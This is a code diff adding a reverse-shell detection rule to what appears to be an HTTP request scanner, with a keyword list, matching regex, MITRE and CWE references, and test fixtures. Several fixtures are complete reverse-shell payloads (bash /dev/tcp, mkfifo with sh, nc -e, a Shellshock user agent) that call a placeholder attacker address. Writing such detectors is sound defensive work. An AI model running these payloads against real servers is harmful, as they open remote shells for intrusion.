@@ -1,0 +1,63 @@
+import { defineRule } from '../rule.ts'
+
+export default defineRule({
+  id: 'cmdi/reverse-shell',
+  title: 'Reverse shell',
+  why: 'Makes the server open a connection to the attacker and hand it a shell.',
+  ja: {
+    title: 'リバースシェル',
+    why: 'サーバーから攻撃者へ接続させ、シェルの操作権を渡そうとしています。',
+  },
+  severity: 'critical',
+  stage: 'execute',
+  attack: ['T1059.004', 'T1071'],
+  cwe: [78],
+  refs: [
+    'https://attack.mitre.org/techniques/T1059/004/',
+    'https://owasp.org/www-community/attacks/Command_Injection',
+  ],
+
+  where: ['path', 'query', 'referrer', 'agent', 'user'],
+  needs: [
+    [
+      '/dev/tcp/',
+      '/dev/udp/',
+      'mkfifo ',
+      'nc -',
+      ' -e /bin',
+      ' -e sh',
+      ' -e bash',
+      ' -e cmd',
+      ' -c /bin',
+      ' -c sh',
+      ' -c bash',
+      'ncat -',
+      'netcat -',
+      'bash -i',
+      'sh -i',
+      'socket.socket',
+      'fsockopen',
+      'io::socket',
+      'use socket',
+      'pty.spawn',
+      'tcpsocket.',
+      'telnet ',
+      'socat ',
+    ],
+  ],
+  match:
+    /\/dev\/(?:tcp|udp)\/[\w.$-]{1,60}\/\d|\bmkfifo\s+\/|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional)?\s+(?:[^\n;|]{0,60}\s)?-[a-z]{0,5}[ec]\s|\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,10}(?:[<>&|]|$)|\bsocket\.socket\(|\bfsockopen\(|IO::Socket::INET|\buse\s+Socket\b|\bpty\.spawn\(|\bTCPSocket\.(?:new|open)\b|\btelnet\s+[\w.-]{4,60}\s+\d{2,5}\s?\||\bsocat\s[^\n]{0,80}\bexec:/i,
+
+  hits: [
+    'GET /a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261 HTTP/1.1',
+    'GET /a?x=rm+/tmp/f;mkfifo+/tmp/f;cat+/tmp/f|sh HTTP/1.1',
+    'GET /a?x=nc+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    "GET /a?x=python+-c+'import+socket;s=socket.socket()' HTTP/1.1",
+    { request: 'GET / HTTP/1.1', agent: '() { :;}; /bin/bash -i > /dev/tcp/203.0.113.9/80' },
+  ],
+  misses: [
+    'GET /docs/python/socket.socketpair HTTP/1.1',
+    'GET /blog/what-is-dev-tcp?ref=/dev/tcp HTTP/1.1',
+    'GET /a?code=abc-nc+-12 HTTP/1.1',
+  ],
+})
